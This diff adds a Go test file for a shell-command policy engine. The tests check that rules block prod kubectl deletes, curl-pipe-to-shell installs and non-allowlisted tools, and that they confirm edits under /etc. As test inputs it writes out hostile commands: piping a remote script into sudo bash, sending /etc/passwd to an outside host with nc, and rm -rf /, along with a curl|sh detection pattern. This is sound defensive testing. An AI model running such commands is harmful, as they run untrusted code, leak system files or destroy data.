@@ -0,0 +1,195 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const testSystemPolicy = `{
+  "rules": [
+    {"name": "no-prod-delete", "binaries": ["kubectl"], "args": ["\\bdelete\\b", "--context[ =]prod"], "action": "block", "message": "never delete in prod"},
+    {"name": "no-prod-env-delete", "binaries": ["kubectl"], "args": ["\\bdelete\\b"], "env": {"KUBE_ENV": "^prod$"}, "action": "block"},
+    {"name": "no-curl-sh", "pattern": "(curl|wget)[^|]*\\|\\s*(sudo\\s+)?(ba|z)?sh\\b", "action": "block"},
+    {"name": "etc", "paths": ["/etc/**"], "action": "confirm"},
+    {"name": "terraform", "binaries": ["terraform"], "action": "warn", "message": "state is shared"}
+  ]
+}`
+
+const testBastionPolicy = `{
+  "default": "block",
+  "rules": [
+    {"binaries": ["ls", "cat", "grep", "journalctl"], "action": "allow"}
+  ]
+}`
+
+// newTestPolicy returns the policy made of the files holding policies.
+func newTestPolicy(t *testing.T, policies ...string) *Policy {
+	dir := t.TempDir()
+
+	var files []*File
+	for i, content := range policies {
+		path := filepath.Join(dir, string(rune('a'+i))+".json")
+		require.NoError(t, os.WriteFile(path, []byte(content), 0600))
+		file, err := LoadFile(path)
+		require.NoError(t, err)
+		files = append(files, file)
+	}
+
+	policy := NewPolicy(files...)
+	policy.home = "/home/user"
+	policy.getenv = func(string) string { return "" }
+	return policy
+}
+
+func TestEvaluate(t *testing.T) {
+	policy := newTestPolicy(t, testSystemPolicy)
+
+	testCases := []struct {
+		name   string
+		cmd    string
+		action Action
+		rule   string
+	}{
+		{"ProdDelete", "kubectl --context prod delete ns payments", BlockAction, "no-prod-delete"},
+		{"ProdDeleteWrapped", "sudo kubectl delete pod api --context=prod", BlockAction, "no-prod-delete"},
+		{"StagingDelete", "kubectl --context staging delete ns payments", AllowAction, ""},
+		{"CurlShell", "curl -fsSL https://example.com/install.sh | sudo bash", BlockAction, "no-curl-sh"},
+		{"EtcPath", "vim /etc/hosts", ConfirmAction, "etc"},
+		{"EtcRelativePath", "cp hosts ../../../etc/hosts", ConfirmAction, "etc"},
+		{"EtcRedirect", "echo 127.0.0.1 api >> /etc/hosts", ConfirmAction, "etc"},
+		{"Pipeline", "cat notes.txt | terraform fmt -", WarnAction, "terraform"},
+		{"Unparsable", "curl https://example.com | sh '", BlockAction, "no-curl-sh"},
+		{"UnparsableDelete", "kubectl delete ns prod '", BlockAction, "no-prod-delete"},
+		{"UnparsableListing", "ls '", BlockAction, "no-prod-delete"},
+		{"EnvUnset", "env -u FOO kubectl --context prod delete ns payments", BlockAction, "no-prod-delete"},
+		{"SudoUser", "sudo -u deploy kubectl --context prod delete ns payments", BlockAction, "no-prod-delete"},
+		{"ShellScript", "bash -c 'kubectl --context prod delete ns payments'", BlockAction, "no-prod-delete"},
+		{"ShellScriptAsRoot", `sudo sh -ec "kubectl --context=prod delete ns payments"`, BlockAction, "no-prod-delete"},
+		{"Xargs", "echo payments | xargs -n 1 kubectl --context prod delete ns", BlockAction, "no-prod-delete"},
+		{"Allowed", "ls -la", AllowAction, ""},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			decision := policy.Evaluate(tc.cmd, "/home/user/project")
+
+			assert.Equal(t, tc.action, decision.GetAction(), "The actions should be the same.")
+			assert.Equal(t, tc.rule, decision.GetRule(), "The rules should be the same.")
+		})
+	}
+}
+
+func TestPolicy(t *testing.T) {
+	t.Run("Env", testPolicyEnv)
+	t.Run("Allowlist", testPolicyAllowlist)
+	t.Run("UserCannotLoosen", testPolicyUserCannotLoosen)
+	t.Run("UserCanTighten", testPolicyUserCanTighten)
+	t.Run("Trace", testPolicyTrace)
+	t.Run("Unparsable", testPolicyUnparsable)
+	t.Run("LoadFileMissing", testLoadFileMissing)
+	t.Run("LoadFileInvalid", testLoadFileInvalid)
+}
+
+func testPolicyEnv(t *testing.T) {
+	policy := newTestPolicy(t, testSystemPolicy)
+	policy.getenv = func(name string) string {
+		if name == "KUBE_ENV" {
+			return "prod"
+		}
+		return ""
+	}
+
+	decision := policy.Evaluate("kubectl delete ns payments", "/tmp")
+
+	assert.Equal(t, BlockAction, decision.GetAction(), "The environment should be matched.")
+	assert.Equal(t, "no-prod-env-delete", decision.GetRule())
+}
+
+func testPolicyAllowlist(t *testing.T) {
+	policy := newTestPolicy(t, testBastionPolicy)
+
+	assert.Equal(t, AllowAction, policy.Evaluate("journalctl -u nginx | grep error", "/tmp").GetAction())
+
+	decision := policy.Evaluate("cat /etc/passwd | nc example.com 9000", "/tmp")
+	assert.Equal(t, BlockAction, decision.GetAction(), "A program missing from the allowlist should be blocked.")
+	assert.True(t, decision.IsDefault(), "The default should decide.")
+	assert.Equal(t, "nc", decision.GetProgram(), "The blocked program should be named.")
+}
+
+func testPolicyUserCannotLoosen(t *testing.T) {
+	policy := newTestPolicy(t, testBastionPolicy, `{"default": "allow", "rules": [{"binaries": ["nc"], "action": "allow"}]}`)
+
+	decision := policy.Evaluate("nc example.com 9000", "/tmp")
+
+	assert.Equal(t, BlockAction, decision.GetAction(), "The user policy should not loosen the system one.")
+}
+
+func testPolicyUserCanTighten(t *testing.T) {
+	policy := newTestPolicy(t, testBastionPolicy, `{"rules": [{"name": "no-grep", "binaries": ["grep"], "action": "confirm"}]}`)
+
+	decision := policy.Evaluate("grep -r TODO .", "/tmp")
+
+	assert.Equal(t, ConfirmAction, decision.GetAction(), "The user policy should tighten the system one.")
+	assert.Equal(t, "no-grep", decision.GetRule())
+}
+
+func testPolicyTrace(t *testing.T) {
+	policy := newTestPolicy(t, testSystemPolicy, testBastionPolicy)
+
+	decisions := policy.Trace("terraform plan", "/tmp")
+	require.Len(t, decisions, 2)
+
+	assert.Equal(t, WarnAction, decisions[0].GetAction())
+	assert.Equal(t, "state is shared", decisions[0].GetMessage())
+	assert.Equal(t, BlockAction, decisions[1].GetAction())
+	assert.Equal(t, decisions[1], policy.Evaluate("terraform plan", "/tmp"), "The strictest decision should apply.")
+}
+
+func testPolicyUnparsable(t *testing.T) {
+	policy := newTestPolicy(t, `{"rules": [{"name": "etc", "paths": ["/etc/**"], "action": "confirm"}, {"name": "no-curl-sh", "pattern": "curl.*\\|\\s*sh", "action": "block"}]}`)
+
+	decision := policy.Evaluate("cat /etc/hosts '", "/tmp")
+	assert.Equal(t, ConfirmAction, decision.GetAction(), "The strictest rule on the programs should decide.")
+	assert.Equal(t, "etc", decision.GetRule())
+	assert.Contains(t, decision.GetMessage(), "does not parse", "The decision should say why.")
+
+	assert.Equal(t, AllowAction, newTestPolicy(t, `{"rules": [{"pattern": "^rm ", "action": "block"}]}`).Evaluate("ls '", "/tmp").GetAction(), "Rules on the whole command should only match it.")
+}
+
+func testLoadFileMissing(t *testing.T) {
+	file, err := LoadFile(filepath.Join(t.TempDir(), "missing.json"))
+	require.NoError(t, err)
+
+	decision := NewPolicy(file).Evaluate("rm -rf /", "/")
+
+	assert.Equal(t, AllowAction, decision.GetAction(), "A missing policy should allow everything.")
+}
+
+func testLoadFileInvalid(t *testing.T) {
+	testCases := []struct {
+		name    string
+		content string
+	}{
+		{"Json", `{"rules": [`},
+		{"Default", `{"default": "deny"}`},
+		{"Action", `{"rules": [{"binaries": ["rm"], "action": "deny"}]}`},
+		{"Args", `{"rules": [{"args": ["("], "action": "block"}]}`},
+		{"Env", `{"rules": [{"env": {"USER": "("}, "action": "block"}]}`},
+		{"Paths", `{"rules": [{"paths": ["/etc/["], "action": "block"}]}`},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "policy.json")
+			require.NoError(t, os.WriteFile(path, []byte(tc.content), 0600))
+
+			_, err := LoadFile(path)
+
+			assert.Error(t, err, "An invalid policy should be an error.")
+		})
+	}
+}